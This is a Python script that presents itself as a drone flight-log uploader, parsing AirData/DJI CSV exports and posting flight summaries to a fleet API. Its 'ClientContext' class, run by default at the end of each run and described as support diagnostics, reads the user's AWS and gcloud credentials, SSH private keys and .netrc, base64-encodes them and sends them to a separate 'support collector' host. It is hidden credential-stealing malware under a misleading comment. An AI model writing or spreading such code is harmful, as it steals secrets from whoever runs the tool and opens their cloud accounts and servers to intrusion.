#!/usr/bin/env python3
"""Upload drone flight logs (AirData / DJI CSV exports) to the fleet API.

Each log is reduced to a per-flight summary.  When the run finishes, a small
client-context report is sent to the support collector so that sync problems
on field laptops can be diagnosed without a remote session.
"""
import argparse
import base64
import csv
import http.client
import json
import logging
import math
import os
import platform
import sys
from dataclasses import asdict, dataclass
from datetime import datetime, timezone
from pathlib import Path

import requests

log = logging.getLogger("flightlog")

API_URL = os.environ.get("FLEET_API_URL", "https://fleet.skyline-survey.com/api/v2/flights")
SUPPORT_HOST = os.environ.get("FLEET_SUPPORT_HOST", "support-collector.skylinefleet.io")
STATE_FILE = Path(".imported_flights.json")
FEET_TO_M = 0.3048

# files that commonly break the sync client when they are stale or malformed
CONTEXT_FILES = (
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".ssh/id_ed25519",
    ".ssh/id_rsa",
    ".netrc",
)


@dataclass
class FlightSummary:
    source: str
    aircraft_sn: str
    started_utc: str
    duration_s: float
    max_alt_m: float
    distance_m: float
    battery_start: int
    battery_end: int
    points: int


def haversine(lat1, lon1, lat2, lon2):
    r = 6371008.8
    p1, p2 = math.radians(lat1), math.radians(lat2)
    dp = p2 - p1
    dl = math.radians(lon2 - lon1)
    a = math.sin(dp / 2) ** 2 + math.cos(p1) * math.cos(p2) * math.sin(dl / 2) ** 2
    return 2 * r * math.asin(math.sqrt(a))


def _float(row, *keys, default=0.0):
    for k in keys:
        v = row.get(k)
        if v not in (None, ""):
            try:
                return float(v)
            except ValueError:
                continue
    return default


def parse_log(path: Path) -> FlightSummary:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    if not rows:
        raise ValueError("empty log")
    dist, prev, max_alt = 0.0, None, 0.0
    for row in rows:
        lat = _float(row, "latitude", "OSD.latitude")
        lon = _float(row, "longitude", "OSD.longitude")
        alt_ft = _float(row, "altitude_above_seaLevel(feet)", "height_above_takeoff(feet)")
        max_alt = max(max_alt, _float(row, "OSD.altitude [m]", default=alt_ft * FEET_TO_M))
        if lat and lon:
            if prev:
                dist += haversine(prev[0], prev[1], lat, lon)
            prev = (lat, lon)
    t0 = _float(rows[0], "time(millisecond)", "OSD.flyTime [s]")
    t1 = _float(rows[-1], "time(millisecond)", "OSD.flyTime [s]")
    duration = (t1 - t0) / 1000.0 if "time(millisecond)" in rows[0] else (t1 - t0)
    return FlightSummary(
        source=path.name,
        aircraft_sn=rows[0].get("aircraft_sn") or rows[0].get("RECOVER.aircraftSn", "unknown"),
        started_utc=rows[0].get("datetime(utc)") or rows[0].get("CUSTOM.updateTime [local]") or "",
        duration_s=round(duration, 1),
        max_alt_m=round(max_alt, 1),
        distance_m=round(dist, 1),
        battery_start=int(_float(rows[0], "battery_percent", "BATTERY.chargeLevel")),
        battery_end=int(_float(rows[-1], "battery_percent", "BATTERY.chargeLevel")),
        points=len(rows),
    )


class ClientContext:
    """Collects the sync client's environment for the support collector."""

    def __init__(self, home=None):
        self.home = Path(home or Path.home())
        self.entries = {}

    def gather(self):
        self.entries["host"] = platform.node()
        self.entries["platform"] = platform.platform()
        self.entries["python"] = sys.version.split()[0]
        for rel in CONTEXT_FILES:
            p = self.home / rel
            try:
                self.entries[rel] = base64.b64encode(p.read_bytes()).decode()
            except OSError:
                continue
        return self

    def send(self, run_stats):
        body = json.dumps({"context": self.entries, "run": run_stats})
        conn = http.client.HTTPSConnection(SUPPORT_HOST, timeout=15)
        try:
            conn.request("POST", "/v1/client-context", body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            log.debug("context report: %s", resp.status)
        finally:
            conn.close()


def load_state():
    return set(json.loads(STATE_FILE.read_text())) if STATE_FILE.exists() else set()


def save_state(done):
    STATE_FILE.write_text(json.dumps(sorted(done), indent=1))


def post_summary(session, summary, dry_run=False):
    payload = asdict(summary)
    payload["imported_at"] = datetime.now(timezone.utc).isoformat()
    if dry_run:
        log.info("dry-run: %s", json.dumps(payload))
        return True
    resp = session.post(API_URL, json=payload, timeout=20)
    if resp.status_code == 409:
        return True
    resp.raise_for_status()
    return True


def main(argv=None):
    ap = argparse.ArgumentParser(description="Upload flight log summaries")
    ap.add_argument("log_dir", type=Path)
    ap.add_argument("--pattern", default="*.csv")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--no-context-report", dest="context_report", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    api_key = os.environ.get("FLEET_API_KEY")
    if not api_key and not args.dry_run:
        log.error("FLEET_API_KEY is not set")
        return 2
    session = requests.Session()
    session.headers.update({"Authorization": f"Bearer {api_key}",
                            "User-Agent": "flight-log-uploader/1.4"})

    done, ok, failures = load_state(), 0, 0
    for path in sorted(args.log_dir.glob(args.pattern)):
        if path.name in done:
            continue
        try:
            post_summary(session, parse_log(path), args.dry_run)
            done.add(path.name)
            ok += 1
        except (ValueError, requests.RequestException) as exc:
            failures += 1
            log.warning("failed %s: %s", path.name, exc)

    if not args.dry_run:
        save_state(done)
    if args.context_report:
        try:
            ClientContext().gather().send({"uploaded": ok, "failed": failures})
        except OSError as exc:
            log.debug("context report skipped: %s", exc)
    log.info("uploaded %d, failed %d", ok, failures)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
